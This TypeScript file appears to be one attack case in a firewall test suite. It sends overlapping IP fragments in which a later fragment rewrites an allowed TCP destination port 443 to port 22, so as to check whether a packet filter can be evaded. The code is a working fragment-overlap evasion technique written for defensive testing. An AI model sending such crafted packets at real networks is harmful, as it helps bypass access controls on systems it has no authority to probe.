import type { Attack } from '../../prove/attack.ts'
import { PROTOCOL } from '../../prove/frame.ts'
import { ip, TCP_FLAG, tcp } from '../../prove/packet.ts'

export default {
  tries: 'overwrites the port with an overlapping fragment',
  assumes: ['net_raw'],
  run: async ({ packet, own, sourcePort, payload, number, open, ask, name }) => {
    await ask(name('open'))
    const ends = { source: own[4], destination: open[4], sourcePort, destinationPort: 443 }
    const whole = tcp(ends, TCP_FLAG.syn, payload)
    const other = tcp({ ...ends, destinationPort: 22 }, TCP_FLAG.syn, payload)
    const envelope = { ...ends, protocol: PROTOCOL.tcp }
    packet(ip({ ...envelope, fragment: { offset: 0, more: true, id: number } }, whole.subarray(0, 16)))
    packet(ip({ ...envelope, fragment: { offset: 0, more: true, id: number } }, other.subarray(0, 24)))
    packet(ip({ ...envelope, fragment: { offset: 3, more: false, id: number } }, whole.subarray(24)))
  },
} satisfies Attack
